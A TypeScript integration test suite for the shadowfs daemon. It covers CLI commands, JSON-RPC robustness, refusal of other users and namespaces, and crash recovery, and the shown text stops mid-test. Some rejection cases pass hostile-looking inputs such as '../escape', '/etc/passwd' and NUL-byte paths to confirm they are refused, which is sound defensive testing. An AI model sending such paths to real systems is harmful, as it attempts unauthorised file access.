// The daemon end to end: every CLI command against a real daemon and real mounts, protocol
// robustness on a raw socket, other users, crash recovery and idle unmount. The daemon runs in
// this test run's private runtime directory (see helpers/hooks.ts).
import * as assert from 'assert';
import { ChildProcess, spawn, spawnSync } from 'child_process';
import * as fs from 'fs';
import * as net from 'net';
import * as path from 'path';
import { ShadowClient } from '../src/client';
import { ShadowError } from '../src/common/errors';
import { daemonPaths } from '../src/common/endpoint';
import { mountedPaths } from '../src/platform';
import { RpcErrorCodes } from '../src/protocol';
import { CheckpointStore } from '../src/work/checkpoints';
import { encodeMessage, Raw } from './helpers/raw-rpc';
import { eventually, FolderGuard, makeProject, ownsTestPath, repoRoot, tempDir, testRootPrefix } from './helpers/fixtures';
import { running, stopTestDaemon } from './helpers/hooks';

const cliPath = path.join(repoRoot, 'bin', 'shadowfs.js');

// A CLI call that has not ended after 55 s is asked for a diagnostic report (node
// --report-on-signal: its JavaScript and native stacks and the libuv handles that keep it
// alive), then killed; the failure message quotes the report. CI once saw `shadowfs restore`
// print its whole answer and then not exit.
const TIMEOUT_BIN = spawnSync('sh', ['-c', 'command -v timeout'], { encoding: 'utf8' }).stdout.trim() || 'timeout';
let reportDir: string | undefined;

/** What a node report says about why a process is still alive: its handles, and where each stack is. */
function reportSummary(dir: string): string {
  const files = fs.existsSync(dir) ? fs.readdirSync(dir).filter((f) => f.endsWith('.json')) : [];
  if (!files.length) return 'no report was written (the process did not get back to its event loop: blocked in a system call?)';
  const r = JSON.parse(fs.readFileSync(path.join(dir, files.sort().at(-1)!), 'utf8')) as {
    javascriptStack?: { message?: string; stack?: string[] };
    nativeStack?: Array<{ symbol?: string }>;
    libuv?: Array<{ type?: string; is_active?: boolean; is_referenced?: boolean; [k: string]: unknown }>;
  };
  const handles = (r.libuv ?? []).filter((h) => h.is_active && h.is_referenced).map((h) => JSON.stringify(h));
  return [
    `handles keeping it alive: ${handles.length ? handles.join('; ') : 'none'}`,
    `javascript: ${r.javascriptStack?.message ?? ''} ${(r.javascriptStack?.stack ?? []).slice(0, 8).join(' | ')}`,
    `native: ${(r.nativeStack ?? [])
      .slice(0, 12)
      .map((f) => f.symbol)
      .join(' | ')}`,
  ].join('\n');
}

function cli(
  args: string[],
  input?: string,
  env: NodeJS.ProcessEnv = {},
): { status: number | null; stdout: string; stderr: string; ended: string } {
  reportDir ??= tempDir('cli-reports');
  const reports = fs.mkdtempSync(path.join(reportDir, 'r-'));
  const r = spawnSync(
    TIMEOUT_BIN,
    ['-s', 'USR2', '-k', '5', '55', process.execPath, '--report-on-signal', `--report-directory=${reports}`, cliPath, ...args],
    { encoding: 'utf8', input, timeout: 90_000, env: { ...process.env, ...env } },
  );
  // How it ended, for a failure message: a status, or how it was stopped (timeout exits 124 after
  // its signal, 137 after the SIGKILL that follows).
  const hung = r.status === 124 || r.status === 137;
  const ended = hung
    ? `did not exit within 55 s; ${reportSummary(reports)}`
    : r.signal
      ? `killed by ${r.signal}${r.error ? ` (${r.error.message})` : ''}`
      : `exit status ${r.status}`;
  return { status: hung ? null : r.status, stdout: r.stdout, stderr: r.stderr, ended };
}

/** How a CLI call ended and what it printed, for an assertion's message. */
function how(r: { ended: string; stdout: string; stderr: string }): string {
  return `${r.ended}; stdout: ${r.stdout}; stderr: ${r.stderr}`;
}

/** Runs the CLI and asserts its exit status, saying how it ended otherwise (a hang's report included). */
function exits(args: string[], status: number, message?: string): ReturnType<typeof cli> {
  const r = cli(args);
  assert.strictEqual(r.status, status, `shadowfs ${args.join(' ')}: ${message ? `${message}: ` : ''}${how(r)}`);
  return r;
}

function json<T>(args: string[], input?: string): T {
  const r = cli([...args, '--json'], input);
  assert.strictEqual(r.status, 0, `shadowfs ${args.join(' ')} failed (${r.ended}): ${r.stdout}${r.stderr}`);
  return JSON.parse(r.stdout) as T;
}

describe('the shadowfs daemon', function () {
  afterEach(async () => {
    // Whatever a failed test left mounted goes, through the daemon if it still runs.
    try {
      const c = await ShadowClient.connect({ autostart: false });
      for (const s of (await c.request('list')).shadows) await c.request('unmount', { shadow: s.name, lazy: true });
      c.close();
    } catch {
      // no daemon
    }
    // Only this run's: another run of the suite may be mounting beside it.
    for (const m of mountedPaths())
      if (m.startsWith(daemonPaths().dir) || (m.startsWith(`${testRootPrefix}dmnt-`) && ownsTestPath(m))) spawnSync('umount', ['-l', m]);
  });
  after(() => stopTestDaemon());

  it('every CLI command works end to end against a real daemon and real mounts', async () => {
    const lower = makeProject();
    const guard = new FolderGuard(lower);
    const at = path.join(tempDir('dmnt'), 'm');
    const mounted = json<{ name: string; mountPoint: string; active: string; folder: string; lower: string; protectGit: boolean }>([
      'mount',
      lower,
      '--at',
      at,
      '--name',
      'proj',
    ]);
    assert.strictEqual(mounted.name, 'proj');
    assert.strictEqual(mounted.mountPoint, at);
    assert.strictEqual(mounted.folder, fs.realpathSync(lower));
    assert.strictEqual(mounted.lower, mounted.folder, 'lower: the former name, kept for one protocol version');
    assert.strictEqual(mounted.protectGit, true, "git's control files are read-only in layers by default");
    assert.ok(mountedPaths().has(at));
    exits(['mount', lower, '--name', 'proj'], 1, 'a second shadow with the same name is refused');

    assert.deepStrictEqual(
      json<{ shadows: Array<{ name: string }> }>(['list']).shadows.map((s) => s.name),
      ['proj'],
    );
    assert.strictEqual(json<{ bytes: number }>(['layer', 'write', 'proj', 'alice', 'src/new.js'], 'module.exports = 42;\n').bytes, 21);
    const file = path.join(tempDir('src'), 'content.txt');
    fs.writeFileSync(file, 'from a file\n');
    json(['layer', 'write', 'proj', 'alice', 'notes/from-file.txt', '--file', file]);
    json(['layer', 'rm', 'proj', 'alice', 'README.md']);
    assert.strictEqual(cli(['layer', 'cat', 'proj', 'alice', 'src/new.js']).stdout, 'module.exports = 42;\n');
    assert.deepStrictEqual(
      json<{ changes: Array<{ kind: string; path: string }> }>(['layer', 'changes', 'proj', 'alice']).changes.map(
        (c) => `${c.kind} ${c.path}`,
      ),
      ['deleted README.md', 'added notes/from-file.txt', 'added src/new.js'],
    );
    const act = json<{ active: string; epoch: boolean }>(['activate', 'proj', 'alice']);
    assert.strictEqual(act.active, 'alice');
    assert.strictEqual(fs.readFileSync(path.join(at, 'src/new.js'), 'utf8'), 'module.exports = 42;\n');
    assert.ok(!fs.existsSync(path.join(at, 'README.md')));
    const view = json<{ view: number; mountPoint: string }>(['view', 'open', 'proj', 'bob']);
    assert.ok(fs.existsSync(path.join(view.mountPoint, 'README.md')), "bob's view shows the folder");
    assert.strictEqual(json<{ shadows: Array<{ views: unknown[] }> }>(['list']).shadows[0].views.length, 1);
    json(['view', 'close', 'proj', String(view.view)]);
    assert.ok(!mountedPaths().has(view.mountPoint));
    json(['activate', 'proj', '--none']);
    assert.ok(fs.existsSync(path.join(at, 'README.md')));
    // Read-only queries about an agent without a layer say so, and create nothing.
    for (const args of [
      ['layer', 'changes', 'proj', 'ghost'],
      ['layer', 'cat', 'proj', 'ghost', 'README.md'],
    ]) {
      const r = cli([...args, '--json']);
      assert.strictEqual(r.status, 1, `${args.join(' ')}: ${how(r)}`);
      assert.strictEqual((JSON.parse(r.stdout) as { error: { code: string } }).error.code, 'UNKNOWN_AGENT');
    }
    const ghost = cli(['layer', 'changes', 'proj', 'ghost']).stderr;
    assert.match(ghost, /^shadowfs: error UNKNOWN_AGENT: .*ghost/);
    assert.doesNotMatch(ghost, /shadow\.layer|agentId/, 'a CLI user is not told about the library API');
    // A path the diff cannot take is said so, not answered with "no changes".
    const abs = cli(['diff', 'proj', '--agent', 'alice', path.join(at, 'src/new.js'), '--json']);
    assert.strictEqual(abs.status, 1, how(abs));
    assert.strictEqual((JSON.parse(abs.stdout) as { error: { code: string } }).error.code, 'INVALID_PATH');
    assert.ok(!json<{ shadows: Array<{ agents: string[] }> }>(['list']).shadows[0].agents.includes('ghost'), 'no layer was created');
    // Cloning: onto a new id works, onto an existing layer is LAYER_EXISTS, said once.
    assert.deepStrictEqual(json(['layer', 'clone', 'proj', 'alice', 'carol']), { agent: 'alice', to: 'carol' });
    assert.strictEqual(cli(['layer', 'cat', 'proj', 'carol', 'src/new.js']).stdout, 'module.exports = 42;\n');
    const again = cli(['layer', 'clone', 'proj', 'alice', 'carol']);
    assert.strictEqual(again.status, 1, how(again));
    assert.match(again.stderr, /^shadowfs: error LAYER_EXISTS: /);
    assert.strictEqual(again.stderr.split('carol').length - 1, 2, `the message names each agent once: ${again.stderr}`);
    assert.strictEqual(again.stderr.trim().split('\n').length, 1, again.stderr);
    json(['layer', 'drop', 'proj', 'carol']);
    json(['layer', 'reset', 'proj', 'alice']);
    assert.deepStrictEqual(json<{ changes: unknown[] }>(['layer', 'changes', 'proj', 'alice']).changes, []);
    json(['layer', 'drop', 'proj', 'alice']);
    const st = json<{ running: boolean; pid: number; shadows: unknown[] }>(['status']);
    assert.strictEqual(st.running, true);
    assert.strictEqual(st.shadows.length, 1);
    const doctor = json<{ healthy: boolean; checks: Array<{ name: string; ok: boolean }> }>(['doctor']);
    assert.strictEqual(doctor.healthy, true);
    assert.ok(doctor.checks.find((c) => c.name === 'fuse-device')?.ok);
    const second = cli(['serve', '--foreground']);
    assert.strictEqual(second.status, 1, how(second));
    assert.match(second.stderr, /DAEMON_RUNNING/);
    assert.match(json<{ event: string }>(['serve']).event, /running/);
    // Errors carry codes.
    const unknown = cli(['layer', 'changes', 'nope', 'alice', '--json']);
    assert.strictEqual(unknown.status, 1, how(unknown));
    assert.strictEqual((JSON.parse(unknown.stdout) as { error: { code: string } }).error.code, 'UNKNOWN_SHADOW');
    const bad = JSON.parse(cli(['layer', 'write', 'proj', 'alice', '../escape', '--json'], 'x').stdout) as { error: { code: string } };
    assert.strictEqual(bad.error.code, 'INVALID_PATH');
    json(['unmount', 'proj']);
    assert.ok(!mountedPaths().has(at));
    await guard.check();
  });

  it("a client whose connection the daemon is closing never turns another client's request into an error", async () => {
    // After a framing error the daemon closes that connection at once but keeps its socket until
    // the client hangs up (or 2 s): a notification sent to it then threw, and the request that
    // made the change (here a layer.write by another client) was answered with an internal
    // error, although the change had been made.
    const lower = makeProject();
    const guard = new FolderGuard(lower);
    json(['mount', lower, '--name', 'closing']);
    const c = await ShadowClient.connect({ autostart: false });
    const broken: net.Socket[] = [];
    try {
      for (let round = 0; round < 5; round++) {
        const s = net.connect({ path: daemonPaths().socket, allowHalfOpen: true });
        broken.push(s);
        const answered = new Promise<void>((r) => s.once('data', () => r()));
        s.write('Content-Length: twelve\r\n\r\n');
        await answered; // the daemon has closed this connection, and still holds the socket
        const r = await c.request('layer.write', {
          shadow: 'closing',
          agent: 'a',
          path: `w${round}.txt`,
          data: Buffer.from('x').toString('base64'),
        });
        assert.strictEqual(r.bytes, 1);
      }
      assert.strictEqual((await c.request('layer.changes', { shadow: 'closing', agent: 'a' })).changes.length, 5);
    } finally {
      for (const s of broken) s.destroy();
      c.close();
    }
    json(['unmount', 'closing']);
    await guard.check();
  });

  it('survives malformed messages, bad framing, oversized messages, unknown methods and invalid params', async () => {
    const lower = makeProject();
    const guard = new FolderGuard(lower);
    json(['mount', lower, '--name', 'robust']);
    const sock = daemonPaths().socket;
    const raw = new Raw(sock);
    await raw.ready();
    raw.socket.write(Buffer.from('Content-Length: 9\r\n\r\n{not json'));
    assert.strictEqual((await raw.next())?.error?.code, RpcErrorCodes.ParseError);
    raw.socket.write(encodeMessage([1, 2, 3]));
    assert.strictEqual((await raw.next())?.error?.code, RpcErrorCodes.InvalidRequest);
    raw.request(1, 'no.such.method');
    const nf = await raw.next();
    assert.strictEqual(nf?.error?.code, RpcErrorCodes.MethodNotFound);
    assert.match(nf?.error?.message ?? '', /no\.such\.method/);
    const invalid: Array<[unknown, number, string?]> = [
      [{ shadow: 1, agent: 'a', path: 'x', data: '' }, RpcErrorCodes.InvalidParams],
      [{ shadow: 'robust', agent: 'a', path: 'x' }, RpcErrorCodes.InvalidParams],
      [{ shadow: 'robust', agent: 'a', path: 'x', data: '', extra: true }, RpcErrorCodes.InvalidParams],
      [{ shadow: 'robust', agent: 'a', path: '../x', data: '' }, RpcErrorCodes.InvalidPath, 'INVALID_PATH'],
      [{ shadow: 'robust', agent: 'a', path: '/etc/passwd', data: '' }, RpcErrorCodes.InvalidPath, 'INVALID_PATH'],
      [{ shadow: 'robust', agent: 'a', path: 'a\0b', data: '' }, RpcErrorCodes.InvalidParams],
      [{ shadow: 'robust', agent: 'a/b', path: 'x', data: '' }, RpcErrorCodes.InvalidPath, 'INVALID_AGENT'],
      [{ shadow: 'missing', agent: 'a', path: 'x', data: '' }, RpcErrorCodes.UnknownShadow, 'UNKNOWN_SHADOW'],
      [{ shadow: 'robust', agent: 'a', path: 'x', data: '', mode: 0o170000 }, RpcErrorCodes.InvalidParams], // the schema bounds modes
      [[1, 2], RpcErrorCodes.InvalidParams], // by position: this protocol names its parameters
      ['not an object', RpcErrorCodes.InvalidRequest], // JSON-RPC: params is structured or absent
    ];
    let id = 10;
    for (const [params, code, dataCode] of invalid) {
      raw.request(++id, 'layer.write', params);
      const r = await raw.next();
      assert.strictEqual(r?.error?.code, code, `layer.write ${JSON.stringify(params)} -> ${JSON.stringify(r)}`);
      if (dataCode) assert.strictEqual(r?.error?.data?.code, dataCode);
      assert.strictEqual(r?.id, id);
    }
    // Codes that say what happened: no layer for that agent (and none made by asking), a clone
    // onto an existing layer, an argument that is not a path.
    const coded: Array<[string, unknown, number, string]> = [
      ['layer.changes', { shadow: 'robust', agent: 'ghost' }, RpcErrorCodes.UnknownAgent, 'UNKNOWN_AGENT'],
      ['layer.read', { shadow: 'robust', agent: 'ghost', path: 'README.md' }, RpcErrorCodes.UnknownAgent, 'UNKNOWN_AGENT'],
      ['layer.clone', { shadow: 'robust', agent: 'ghost', to: 'x' }, RpcErrorCodes.UnknownAgent, 'UNKNOWN_AGENT'],
      ['layer.clone', { shadow: 'robust', agent: 'default', to: 'default' }, RpcErrorCodes.Failed, 'LAYER_EXISTS'],
      ['run', { shadow: 'robust', agent: 'a', argv: ['true'], env: ['NOEQUALS'] }, RpcErrorCodes.InvalidArgument, 'INVALID_ARGUMENT'],
    ];
    for (const [method, params, code, dataCode] of coded) {
      raw.request(++id, method, params);
      const r = await raw.next();
      assert.strictEqual(r?.error?.code, code, `${method} ${JSON.stringify(params)} -> ${JSON.stringify(r)}`);
      assert.strictEqual(r?.error?.data?.code, dataCode, `${method} ${JSON.stringify(params)} -> ${JSON.stringify(r)}`);
    }
    raw.request(++id, 'layer.list', { shadow: 'robust' });
    assert.deepStrictEqual(((await raw.next())?.result as { agents: string[] }).agents, ['default'], 'asking created no layer');
    // A refusal quotes what it refuses, but not a megabyte of it.
    raw.request(98, 'layer.read', { shadow: 'robust', agent: 'default', path: `../${'x'.repeat(1 << 20)}` });
    const clipped = await raw.next();
    assert.strictEqual(clipped?.error?.data?.code, 'INVALID_PATH');
    assert.ok((clipped?.error?.message.length ?? 0) < 2100, `a ${clipped?.error?.message.length}-character message`);
    assert.match(clipped?.error?.message ?? '', /more characters\)$/);
    // The connection still works after all that.
    raw.request(99, 'health');
    assert.strictEqual((await raw.next())?.id, 99);
    // An oversized message ends only its own connection.
    const big = new Raw(sock);
    await big.ready();
    big.socket.write(Buffer.from(`Content-Length: ${64 * 1024 * 1024}\r\n\r\n`));
    assert.match((await big.next())?.error?.message ?? '', /too large/);
    await eventually(() => big.closed, 30_000, 'the oversized connection to close');
    const garbage = new Raw(sock);
    await garbage.ready();
    garbage.socket.write(Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'));
    assert.match((await garbage.next())?.error?.message ?? '', /framing/);
    // A client that disconnects in the middle of a request (and of a message).
    const rude = new Raw(sock);
    await rude.ready();
    rude.request(1, 'layer.changes', { shadow: 'robust', agent: 'default' });
    rude.socket.write(Buffer.from('Content-Length: 100\r\n\r\n{"jsonrpc"'));
    rude.socket.destroy();
    raw.request(100, 'list');
    assert.strictEqual(((await raw.next())?.result as { shadows: unknown[] }).shadows.length, 1);
    raw.socket.destroy();
    json(['unmount', 'robust']);
    await guard.check();
  });

  it('serves 50 concurrent clients while layers switch, and the folder stays untouched', async () => {
    const lower = makeProject();
    const guard = new FolderGuard(lower);
    const info = json<{ mountPoint: string }>(['mount', lower, '--name', 'busy']);
    const clients = await Promise.all(Array.from({ length: 50 }, () => ShadowClient.connect({ autostart: false })));
    try {
      await Promise.all(
        clients.map(async (c, i) => {
          const agent = `agent${i % 5}`;
          for (let n = 0; n < 10; n++) {
            await c.request('layer.write', {
              shadow: 'busy',
              agent,
              path: `out/${i}-${n}.txt`,
              data: Buffer.from(`${i}:${n}`).toString('base64'),
            });
            if (n % 3 === 0) await c.request('activate', { shadow: 'busy', agent });
            const r = await c.request('layer.read', { shadow: 'busy', agent, path: `out/${i}-${n}.txt` });
            assert.strictEqual(Buffer.from(r.data, 'base64').toString(), `${i}:${n}`);
          }
        }),
      );
      const changes = await clients[0].request('layer.changes', { shadow: 'busy', agent: 'agent0' });
      assert.strictEqual(changes.changes.filter((c) => c.type === 'file').length, 100);
      assert.ok(fs.existsSync(info.mountPoint));
    } finally {
      for (const c of clients) c.close();
    }
    json(['unmount', 'busy']);
    await guard.check();
  });

  it('refuses another user: the socket and its directory let only the owner in, and the daemon checks the peer itself', async () => {
    const st = fs.statSync(daemonPaths().dir);
    assert.strictEqual(st.mode & 0o777, 0o700);
    json(['list']); // the daemon is up
    assert.strictEqual(fs.statSync(daemonPaths().socket).mode & 0o777, 0o600);
    const script = `require('net').connect(${JSON.stringify(daemonPaths().socket)}).on('connect',()=>{console.log('CONNECTED');process.exit(0)}).on('error',e=>{console.log(e.code);process.exit(0)})`;
    const r = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, '-e', script], {
      encoding: 'utf8',
    });
    assert.strictEqual(r.stdout.trim(), 'EACCES', r.stderr);
    // Behind the permissions, the daemon asks the kernel who connected (SO_PEERCRED): with the
    // directory and socket opened up, another user still gets PEER_REFUSED and a closed connection.
    const dir = daemonPaths().dir;
    const sock = daemonPaths().socket;
    const parent = path.dirname(dir); // the test run's private runtime directory
    const parentMode = fs.statSync(parent).mode & 0o777;
    fs.chmodSync(parent, 0o711);
    fs.chmodSync(dir, 0o711);
    fs.chmodSync(sock, 0o666);
    try {
      const talk = `const s=require('net').connect(${JSON.stringify(sock)});let b='';s.on('data',d=>b+=d);s.on('close',()=>{console.log(b.slice(b.indexOf('{')));process.exit(0)});s.on('error',e=>{console.log(JSON.stringify({err:e.code}));process.exit(0)});s.write('Content-Length: 46\\r\\n\\r\\n{"jsonrpc":"2.0","id":1,"method":"list","x":1}')`;
      const other = spawnSync('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, '-e', talk], {
        encoding: 'utf8',
        timeout: 30_000,
      });
      const reply = JSON.parse(other.stdout.trim()) as { error?: { code: number; data?: { code: string }; message: string } };
      assert.strictEqual(reply.error?.code, RpcErrorCodes.PeerRefused, other.stdout + other.stderr);
      assert.strictEqual(reply.error?.data?.code, 'PEER_REFUSED');
      assert.match(reply.error?.message ?? '', /uid 65534/);
    } finally {
      fs.chmodSync(sock, 0o600);
      fs.chmodSync(dir, 0o700);
      fs.chmodSync(parent, parentMode);
    }
    json(['list']); // and the owner is served as before
  });

  it("refuses a client of the same user inside a run's user or PID namespace with PEER_REFUSED, and still serves the user", async () => {
    json(['list']); // the daemon is up
    const sock = daemonPaths().socket;
    // The SDK's own client, from a process that sees the socket (a new mount namespace copies the
    // mounts) but runs in namespaces of its own, as a run's processes do.
    const script =
      `require(${JSON.stringify(path.join(repoRoot, 'dist', 'src', 'client'))}).ShadowClient` +
      `.connect({ socketPath: ${JSON.stringify(sock)}, autostart: false })` +
      `.then(async (c) => { const h = await c.request('health'); console.log(JSON.stringify({ served: h.ok })); c.close(); },` +
      ` (e) => console.log(JSON.stringify({ code: e.code, message: e.message })))`;
    const from = (prefix: string[]): { served?: boolean; code?: string; message?: string } => {
      const [cmd, ...args] = [...prefix, process.execPath, '-e', script];
      const r = spawnSync(cmd, args, { encoding: 'utf8', timeout: 60_000 });
      assert.strictEqual(r.status, 0, `${prefix.join(' ')}: ${r.stdout}${r.stderr}${r.error?.message ?? ''}`);
      return JSON.parse(r.stdout.trim()) as { served?: boolean; code?: string; message?: string };
    };
    // The same script, outside any namespace, is served: what refuses below is the namespace.
    assert.deepStrictEqual(from([]), { served: true });
    const userNs = from(['unshare', '--user', '--map-root-user', '--pid', '--fork', '--mount-proc']);
    assert.strictEqual(userNs.code, 'PEER_REFUSED', JSON.stringify(userNs));
    assert.match(userNs.message ?? '', /another user namespace/);
    // As root the PID namespace alone is enough to be refused.
    const pidNs = from(['unshare', '--pid', '--fork']);
    assert.strictEqual(pidNs.code, 'PEER_REFUSED', JSON.stringify(pidNs));
    assert.match(pidNs.message ?? '', /another pid namespace/);
    // On the wire: the JSON-RPC error is PeerRefused, and the connection is closed.
    const talk = `const s=require('net').connect(${JSON.stringify(sock)});let b='';s.on('data',d=>b+=d);s.on('close',()=>{console.log(b.slice(b.indexOf('{')));process.exit(0)});s.on('error',e=>{console.log(JSON.stringify({err:e.code}));process.exit(0)});s.write('Content-Length: 40\\r\\n\\r\\n{"jsonrpc":"2.0","id":1,"method":"list"}')`;
    const raw = spawnSync('unshare', ['--pid', '--fork', process.execPath, '-e', talk], { encoding: 'utf8', timeout: 30_000 });
    const reply = JSON.parse(raw.stdout.trim()) as { id?: unknown; error?: { code: number; data?: { code: string } } };
    assert.strictEqual(reply.error?.code, RpcErrorCodes.PeerRefused, raw.stdout + raw.stderr);
    assert.strictEqual(reply.error?.data?.code, 'PEER_REFUSED');
    assert.strictEqual(reply.id, null, 'the refusal answers no request: nothing was read');
    // And the user's own clients are served as before.
    const c = await ShadowClient.connect({ autostart: false });
    try {
      assert.strictEqual((await c.request('health')).ok, true);
    } finally {
      c.close();
    }
  });

  it('after kill -9 of the daemon, the next command starts a new one that cleans the stale mounts, removes the directories it made, and mounts the shadow again with its layer back from autosave', async () => {
    const lower = makeProject();
    fs.writeFileSync(path.join(lower, '.env'), 'SECRET=1\n');
    const guard = new FolderGuard(lower);
    // Mounted in modes other than the default: the new daemon mounts it the same way.
    const info = json<{ mountPoint: string; protectGit: boolean }>(['mount', lower, '--name', 'crashy', '--io', 'open', '--writable-git']);
    assert.strictEqual(info.protectGit, false);
    // The agent's work, saved by the daemon's autosave (every 30 s by default; asked for here).
    json(['layer', 'write', 'crashy', 'alice', 'src/work.js'], 'module.exports = "kept";\n');
    json(['checkpoint', 'crashy', '--agent', 'alice', '--name', 'autosave']);
    // alice may not see .env (shadowfs mask); a crash must not unmask her.
    assert.deepStrictEqual(json<{ globs: string[] }>(['mask', 'crashy', '--agent', 'alice', '--set', '.env']).globs, ['.env']);
    // The shared mount shows alice's layer; after the crash it shows it again.
    json(['activate', 'crashy', 'alice']);
    assert.ok(!fs.existsSync(path.join(info.mountPoint, '.env')), 'masked for alice');
    const view = json<{ mountPoint: string }>(['view', 'open', 'crashy', 'viewer']);
    // A mount directory the user gave (--at) is the user's: it is unmounted, never removed.
    const userDir = path.join(tempDir('dmnt'), 'mine');
    fs.mkdirSync(userDir);
    const userView = json<{ mountPoint: string }>(['view', 'open', 'crashy', 'other', '--at', userDir]);
    const pid = json<{ pid: number }>(['status']).pid;
    // Each mount was just in use, so the kernel holds its root's attributes: they still answer a
    // stat after the crash, which must not pass for a live server.
    for (const mp of [info.mountPoint, view.mountPoint, userView.mountPoint]) fs.statSync(mp);
    // A connected client (the VS Code extension is one) hears that its daemon is gone.
    const watcher = await ShadowClient.connect({ autostart: false });
    const closed: string[] = [];
    watcher.onClose((reason) => closed.push(reason.code));
    process.kill(pid, 'SIGKILL');
    await eventually(
      () => {
        try {
          process.kill(pid, 0);
          return false;
        } catch {
          return true;
        }
      },
      30_000,
      'the daemon to die',
    );
    await eventually(() => closed.length > 0, 30_000, "the client's close event");
    assert.deepStrictEqual(closed, ['DAEMON_UNAVAILABLE']);
    await assert.rejects(watcher.request('list'), (err: { code?: string }) => err.code === 'DAEMON_UNAVAILABLE');
    for (const mp of [info.mountPoint, view.mountPoint, userView.mountPoint])
      assert.ok(mountedPaths().has(mp), `the crashed daemon left its mount ${mp} behind`);
    const next = cli(['list']);
    assert.strictEqual(next.status, 0, how(next));
    assert.match(next.stderr, new RegExp(`cleaned stale mounts left by a crashed daemon: .*${info.mountPoint}`));
    const st = json<{ pid: number; recovered: string[]; shadows: unknown[] }>(['status']);
    assert.notStrictEqual(st.pid, pid);
    assert.deepStrictEqual([...st.recovered].sort(), [info.mountPoint, view.mountPoint, userView.mountPoint].sort());
    // The shadow is back under its name, a fresh mount, with alice's layer from its autosave
    // (views are not reopened).
    const back = st.shadows as Array<{
      name: string;
      agents: string[];
      active: string | null;
      mountPoint: string;
      io: string;
      protectGit: boolean;
    }>;
    assert.deepStrictEqual(
      back.map((x) => x.name),
      ['crashy'],
    );
    assert.ok(back[0].agents.includes('alice'), JSON.stringify(back));
    assert.strictEqual(back[0].active, 'alice', 'the shared mount shows the layer it showed before the crash');
    assert.strictEqual(back[0].io, 'open', 'mounted again in the I/O mode it had');
    assert.strictEqual(back[0].protectGit, false, 'and with layers still free to write git files');
    assert.strictEqual(fs.readFileSync(path.join(back[0].mountPoint, 'src/work.js'), 'utf8'), 'module.exports = "kept";\n');
    assert.strictEqual(cli(['layer', 'cat', 'crashy', 'alice', 'src/work.js']).stdout, 'module.exports = "kept";\n');
    // Her mask came back with the shadow, before her layer did.
    assert.ok(!fs.existsSync(path.join(back[0].mountPoint, '.env')), '.env is still masked for alice');
    assert.match(cli(['mask', 'crashy', '--agent', 'alice']).stdout, /Mask of alice:\n {2}\.env/);
    for (const mp of [view.mountPoint, userView.mountPoint]) assert.ok(!mountedPaths().has(mp), `${mp} is unmounted`);
    assert.ok(!fs.existsSync(view.mountPoint), 'the view directory the daemon made is removed');
    assert.ok(fs.existsSync(userDir), 'a directory the user gave is kept');
    assert.match(cli(['status']).stdout, /cleaned stale mounts left by a crashed daemon/);
    await guard.check();
  });

  it("after kill -9 of a daemon that wrote the state file's former shape (lower, not folder), the next daemon mounts the shadow again with its layer back", async () => {
    // A daemon upgraded while shadows are mounted: its predecessor wrote "lower" where a daemon
    // now writes "folder", and crashed.
    const lower = makeProject();
    const guard = new FolderGuard(lower);
    const info = json<{ mountPoint: string }>(['mount', lower, '--name', 'former']);
    json(['layer', 'write', 'former', 'alice', 'src/work.js'], 'module.exports = "kept";\n');
    json(['checkpoint', 'former', '--agent', 'alice', '--name', 'autosave']);
    json(['activate', 'former', 'alice']);
    const pid = json<{ pid: number }>(['status']).pid;
    process.kill(pid, 'SIGKILL');
    await eventually(
      () => {
        try {
          process.kill(pid, 0);
          return false;
        } catch {
          return true;
        }
      },
      30_000,
      'the daemon to die',
    );
    const statePath = daemonPaths().state;
    const written = JSON.parse(fs.readFileSync(statePath, 'utf8')) as { pid: number; shadows: Array<Record<string, unknown>> };
    assert.deepStrictEqual(
      written.shadows.map((s) => [s.name, s.folder, 'lower' in s]),
      [['former', fs.realpathSync(lower), false]],
      'a daemon writes folder, and only folder',
    );
    const former = written.shadows.map(({ folder, ...rest }) => ({ ...rest, lower: folder }));
    fs.writeFileSync(statePath, JSON.stringify({ ...written, shadows: former }, null, 2), { mode: 0o600 });
    const next = cli(['list']);
    assert.strictEqual(next.status, 0, how(next));
    assert.match(next.stderr, new RegExp(`cleaned stale mounts left by a crashed daemon: .*${info.mountPoint}`));
    const st = json<{
      pid: number;
      shadows: Array<{ name: string; folder: string; agents: string[]; active: string | null; mountPoint: string }>;
    }>(['status']);
    assert.notStrictEqual(st.pid, pid);
    assert.deepStrictEqual(
      st.shadows.map((x) => [x.name, x.folder]),
      [['former', fs.realpathSync(lower)]],
    );
    assert.ok(st.shadows[0].agents.includes('alice'), JSON.stringify(st.shadows));
    assert.strictEqual(st.shadows[0].active, 'alice', 'the shared mount shows the layer it showed before the crash');
    assert.strictEqual(fs.readFileSync(path.join(st.shadows[0].mountPoint, 'src/work.js'), 'utf8'), 'module.exports = "kept";\n');
    // The new daemon records it in the current shape.
    const rewritten = JSON.parse(fs.readFileSync(statePath, 'utf8')) as { shadows: Array<Record<string, unknown>> };
    assert.deepStrictEqual(
      rewritten.shadows.map((s) => [s.name, s.folder, 'lower' in s]),
      [['former', fs.realpathSync(lower), false]],
    );
    exits(['unmount', 'former'], 0);
    await guard.check();
  });

  it('unmounts a shadow nobody uses after the idle time, keeps its layers, and mounts it again on the next request', async () => {
    stopTestDaemon();
    const daemon = spawn(process.execPath, [cliPath, 'serve', '--foreground', '--idle-timeout', '1', '--exit-after', '600'], {
      stdio: 'ignore',
    });
    try {
      const client = await (async () => {
        for (let i = 0; i < 1200; i++) {
          try {
            return await ShadowClient.connect({ autostart: false });
          } catch {
            await new Promise((r) => setTimeout(r, 50));
          }
        }
        throw new Error('the daemon did not start');
      })();
      const lower = makeProject();
      const events: string[] = [];
      // Only this shadow's: a daemon after a failed test may bring back others from its state.
      client.onNotification((method, params) => {
        const p = params as { event: string; shadow?: string };
        if (p.shadow === 'sleepy') events.push(`${method} ${p.event}`);
      });
      const info = await client.request('mount', { folder: lower, name: 'sleepy' });
      await client.request('layer.write', {
        shadow: 'sleepy',
        agent: 'default',
        path: 'kept.txt',
        data: Buffer.from('kept').toString('base64'),
      });
      // The notification follows the unmount (which runs off the daemon's JS thread). A stalled
      // machine may have unmounted it before the write, which mounted it again: the unmount that
      // counts comes after the write.
      const afterWrite = events.length;
      const idleSince = (mark: number): boolean => events.slice(mark).includes('shadow/changed idle-unmounted');
      await eventually(() => idleSince(afterWrite), 30_000, 'the idle unmount');
      assert.ok(!mountedPaths().has(info.mountPoint), 'the idle unmount took the mount away');
